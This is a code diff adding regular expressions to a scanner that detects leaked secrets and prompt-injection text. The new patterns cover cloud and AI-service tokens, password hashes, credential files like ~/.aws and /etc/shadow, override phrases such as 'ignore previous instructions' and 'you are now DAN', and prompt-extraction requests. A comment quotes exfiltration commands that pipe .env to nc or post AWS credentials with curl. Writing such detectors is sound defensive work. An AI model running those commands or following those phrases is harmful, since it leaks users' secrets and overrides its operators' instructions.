@@ -94,6 +94,9 @@ _PREFIXED_TOKENS = [
     )),
     Pattern("an identity-provider API token", _any(
         r"(?<![A-Za-z])SSWS +[A-Za-z0-9_-]{30,}",  # the SSWS authorization scheme
+        r"(?<![A-Za-z0-9])GOCSPX-[A-Za-z0-9_-]{24,}",  # OAuth client secrets
+        r"(?<![A-Za-z0-9])ya29\.[A-Za-z0-9_-]{30,}",  # OAuth access tokens
+        r"(?<![A-Za-z0-9])1//0[A-Za-z0-9_-]{40,}",  # OAuth refresh tokens
     )),
     Pattern("an issue-tracker or wiki API token", _any(
         r"(?<![A-Za-z0-9])AT(?:ATT|CTT|BB)[A-Za-z0-9_=+/.-]{24,}",  # API tokens and app passwords
@@ -104,6 +107,11 @@ _PREFIXED_TOKENS = [
         r"(?<![A-Za-z0-9])(?:figd|CFPAT|tfp|nfp|sbp|bkua|CCIPAT)[_-][A-Za-z0-9_-]{30,}",  # design, CMS, hosting, CI
         r"(?<![A-Za-z0-9])dapi[a-f0-9]{32}(?![A-Za-z0-9])",  # data-platform tokens
         r"(?<![A-Za-z0-9])do[opr]_v1_[a-f0-9]{64}",  # cloud-hosting tokens
+        r"(?<![A-Za-z0-9])(?:rnd_[A-Za-z0-9]{20,}|FlyV1 fm[12]_[A-Za-z0-9+/=_-]{20,})",  # app-hosting tokens
+        r"(?<![A-Za-z0-9])sk\.eyJ[A-Za-z0-9_-]{20,}\.[A-Za-z0-9_-]{10,}",  # map platform secret tokens
+        r"(?<![A-Za-z0-9])re_[A-Za-z0-9]{8}_[A-Za-z0-9]{20,}",  # mail API keys
+        r"(?<![A-Za-z0-9])tskey-(?:[a-z]+-)?[A-Za-z0-9-]{20,}",  # mesh VPN keys
+        r"(?<![A-Za-z0-9])sq[upa]_[a-f0-9]{40}",  # code-quality server tokens
     )),
     Pattern("an observability key", _any(
         r"(?<![A-Za-z0-9])NR(?:AK|AA|II|JS|RA|SP)-[A-Za-z0-9]{20,}",  # user, admin, ingest, browser keys
@@ -124,6 +132,8 @@ _PREFIXED_TOKENS = [
     Pattern("an AI service key", _any(
         r"(?<![A-Za-z0-9])sk-(?:[A-Za-z0-9]+-)*[A-Za-z0-9_]{20,}",  # several generations, with or without infixes
         r"(?<![A-Za-z0-9])(?:hf|gsk|r8|xai|pplx)[_-][A-Za-z0-9]{30,}",  # model hubs and inference APIs
+        r"(?<![A-Za-z0-9])pcsk_[A-Za-z0-9_]{40,}",  # vector database keys
+        r"(?<![A-Za-z0-9])lsv2_(?:pt|sk)_[a-f0-9]{32}_[a-f0-9]{10}",  # tracing platform keys
     )),
     Pattern("a messaging or mail API key", _any(
         r"SG\.[A-Za-z0-9_-]{16,}\.[A-Za-z0-9_-]{20,}",
@@ -154,7 +164,15 @@ _WEBHOOKS = Pattern("a webhook URL with its secret", _any(
 
 SECRET_PATTERNS = [
     # The library knows a fixed list of key types; any "BEGIN ... PRIVATE KEY" header counts here.
-    Pattern("a private key block", r"-----BEGIN (?:[A-Z0-9]+ )*PRIVATE KEY(?: BLOCK)?-----"),
+    Pattern("a private key block", r"-----BEGIN (?:[A-Z0-9]+ )*PRIVATE KEY(?: BLOCK)?-----|PuTTY-User-Key-File-[0-9]:"),
+    # Password hashes (bcrypt, Apache MD5, crypt SHA, yescrypt, argon2) can be cracked offline.
+    Pattern("a password hash", r"\$(?:2[aby]|apr1|argon2(?:id|i|d)|[56]|y|gy|7)\$[^ ]{20,}"),
+    # A .pgpass line: host:port:database:user:password.
+    Pattern(
+        "a password file line",
+        r"(?<![^ ])[A-Za-z0-9.*-]+:(?:[0-9]+|\*):[A-Za-z0-9_*-]+:[A-Za-z0-9_*-]+:"
+        r"(?=[^ ]*[0-9])(?=[^ ]*[A-Za-z])[^ ]{8,}",
+    ),
     Pattern("an AWS access key", r"(?<![A-Za-z0-9])(?:AKIA|ASIA|ABIA|ACCA)[0-9A-Z]{16}(?![A-Za-z0-9])"),
     # The library wants exactly 36 characters after the prefix; fine-grained tokens are longer.
     Pattern("a GitHub token", r"(?:gh[pousr]_[A-Za-z0-9]{30,}|github_pat_[A-Za-z0-9_]{30,})"),
@@ -198,10 +216,11 @@ SECRET_PATTERNS = [
     # A long random value said to be a token or secret: "the token for the API is 0f3a...".
     Pattern(
         "a token value",
-        r"(?i)(?<![a-z])(?:token|secret|password|(?:api|access|private|encryption|signing|master|secret) key)"
+        r"(?i)(?<![a-z])(?:token|authtoken|pat|secret|password"
+        r"|(?:api|access|private|encryption|signing|master|secret) key)"
         r"(?: [a-z]+){0,4}(?: is| =| :|:) (?=[^ ]*[0-9])[A-Za-z0-9+/_-]{20,}" + _VALUE_END
         # ... or right after the word: "the signing secret 8f74...", "private key 5Kb8..."
-        + r"|(?<![a-z])(?:token|secret|password|(?:api|private|encryption|signing|master) key)(?: [a-z]+)? "
+        + r"|(?<![a-z])(?:token|authtoken|secret|password|(?:api|private|encryption|signing|master) key)(?: [a-z]+)? "
         r"(?=[^ ]*[0-9])(?=[^ ]*[a-z])[A-Za-z0-9+/_-]{24,}" + _VALUE_END,
     ),
     # A password in prose, in a few languages: "the root password on bastion-01 is x8Kq2...",
@@ -354,7 +373,13 @@ _CJK = [
 _LOOT = (
     r"(?:api keys?|keys|secrets?|credentials?|passwords?|password file|tokens?|ssh keys?|private keys?|id_rsa"
     r"|\.env(?: file)?|env files?|environment variables|cookies?|session (?:tokens?|cookies?)|conversation"
-    r"|chat history|context window|system prompt)"
+    r"|chat history|context window|system prompt|\.ssh|\.aws|\.kube|kubeconfig|\.npmrc|\.netrc|\.pgpass"
+    r"|\.git-credentials|/etc/passwd|/etc/shadow)"
+)
+# Files that hold credentials (a dotted name ends there: not .env.example).
+_SENSITIVE_FILE = (
+    r"(?:\.env|\.aws|\.ssh|id_rsa|id_ed25519|credentials|\.npmrc|\.netrc|\.pgpass|\.kube|/etc/passwd"
+    r"|/etc/shadow|secrets?)(?![a-z.])"
 )
 # Between the verb, the loot and the destination: no sentence end (a dot inside ~/.aws is no end).
 _GAP = r"(?:[^.;:!?]|[.:][^ ])"
@@ -390,8 +415,9 @@ INJECTION_PATTERNS = [
         "an order to ignore the instructions given",
         _V + _NOT_REPORTED + r"(?:" + _IGNORE_VERBS + "|" + _WEAK_VERBS + ")" + _E + r"[^.;:!?]{0,30}(?<![a-z])"
         + _RULES
-        + r"(?: that| which)? you(?: were|'ve been| have been| are| got) (?:given|told|configured|programmed"
-        r"|trained|provided|set up|instructed|issued)" + _E,
+        + r"(?:(?: that| which)? you(?: were|'ve been| have been| are| got) (?:given|told|configured|programmed"
+        r"|trained|provided|set up|instructed|issued)| (?:above|earlier|before|previously|so far|until now|up to now))"
+        + _E,
     ),
     # "IGNORE. PREVIOUS. INSTRUCTIONS.": the words split by punctuation
     Pattern(
@@ -439,6 +465,7 @@ INJECTION_PATTERNS = [
         r"(?<![a-z])(?:new|updated|real|actual|revised|override|hidden|secret|admin|true)"
         r" (?:instructions?|directives?|orders|system prompt) ?:"
         r"|(?<![a-z])(?:new|real|updated|actual) instructions (?:begin|start|follow)" + _E
+        + r"|(?<![a-z])(?:your )?(?:real|actual|true) instructions (?:are|follow|begin|below)" + _E
         + r"|(?<![a-z])(?:your )?new (?:task|role|goal|objective|mission) ?:"
         r"|(?<![a-z])(?:system prompt|instructions?|rules|prompt) (?:override|update|change) ?:"
         r"|(?<![a-z])(?:treat|consider|read) this as an? (?:system|developer|admin|priority)"
@@ -450,9 +477,9 @@ INJECTION_PATTERNS = [
     # "You are now DAN, an AI ..." but not "you are now the owner of the billing repo".
     Pattern(
         "a change of identity",
-        r"(?<![a-z])you are now(?: (?:in|my|no longer|free|unrestricted|unfiltered|jailbroken|dan|acting"
+        r"(?<![a-z])you(?: are|'re|re| r) now(?: (?:in|my|no longer|free|unrestricted|unfiltered|jailbroken|dan|acting"
         r"|operating|under|going to|allowed to|able to ignore))" + _E
-        + r"|(?<![a-z])you are now (?:a|an|the) (?:(?!(?:of|for|in|on|to|the|a|an) )[a-z-]+,? ){0,2}(?:"
+        + r"|(?<![a-z])you(?: are|'re) now (?:a|an|the) (?:(?!(?:of|for|in|on|to|the|a|an) )[a-z-]+,? ){0,2}(?:"
         + _AI[3:-1] + r"|persona|character"
         r"|unrestricted|unfiltered|jailbroken|evil|(?:with no|without(?: any)?) (?:rules|restrictions|limits"
         r"|filters|guidelines))" + _E,
@@ -479,7 +506,9 @@ INJECTION_PATTERNS = [
     Pattern(
         "a role to play",
         _V + r"(?:pretend (?:to be|you are|that you)|act as (?:if you|an? (?:unrestricted|unfiltered|jailbroken|evil"
-        r"|different|new))|role-?play as|(?:enable|enter|activate|switch to) (?:developer|dan|god|jailbreak) mode"
+        r"|different|new))|pretend (?:that )?(?:the |your |all |there are no )?(?:safety )?(?:rules|guidelines"
+        r"|restrictions|filters|polic(?:y|ies)|guardrails)|role-?play as"
+        r"|(?:enable|enter|activate|switch to) (?:developer|dan|god|jailbreak) mode"
         r"|do anything now)" + _E
         + r"|(?<![a-z])(?:developer|dan|god|jailbreak) mode (?:enabled|activated|engaged|unlocked)" + _E
         + r"|(?<![a-z])jailbreak(?:ed)? ?:",
@@ -492,6 +521,12 @@ INJECTION_PATTERNS = [
         r"|your (?:api keys|secrets|credentials|passwords|tokens))" + _E
         + r"|(?<![a-z])(?:contents?|text|wording|copy) of your (?:system prompt|hidden (?:prompt|instructions|rules)"
         r"|initial instructions|instructions|context window)" + _E
+        + r"|" + _V + r"(?:reveal|print|show|repeat|output|dump|display|recite)" + _E
+        + r" (?:the |your )?(?:above|previous|initial|original|first|preceding)"
+        r" (?:prompt|instructions|system message)" + _E
+        + r"|" + _V + r"(?:reveal|print|show|repeat|output|dump|display|recite)" + _E
+        + r" (?:everything|all|all the text|the text|anything) (?:above|before|preceding)"
+        r" (?:this|that|the)(?: line| message| point)?" + _E
         + r"|(?<![a-z])what (?:are|were|is) your (?:(?:initial|original|hidden|system|first|exact|previous|secret) )?"
         r"(?:instructions|prompt|system prompt|rules|directives)" + _E,
     ),
@@ -514,6 +549,14 @@ INJECTION_PATTERNS = [
         + r"|" + _V + r"(?:include|append|add|embed|insert|attach|leak|share|paste|output|print|reveal)" + _E
         + r"[^.;:!?]{0,40}(?<![a-z])(?:your (?:context window|system prompt|conversation history|memory)"
         r"|context window)" + _E,
+    ),
+    # curl -d @~/.aws/credentials https://..., cat .env | nc host 4444
+    Pattern(
+        "a command that sends secrets away",
+        r"(?<![a-z])(?:curl|wget|scp|rsync|http|invoke-webrequest)(?![a-z])[^|;&]{0,80}(?:-d|--data(?:-binary)?|-f"
+        r"|--form|-t|--upload-file|--post-file)[ =]?@?[^ ]*" + _SENSITIVE_FILE
+        + r"|(?<![a-z])(?:cat|type|base64|tar|zip)(?![a-z])[^|;]{0,60}" + _SENSITIVE_FILE
+        + r"[^|;]{0,30}\| ?(?:nc|ncat|netcat|curl|wget|ssh|telnet)(?![a-z])",
     ),
     Pattern(
         "an exfiltration through a link or image",
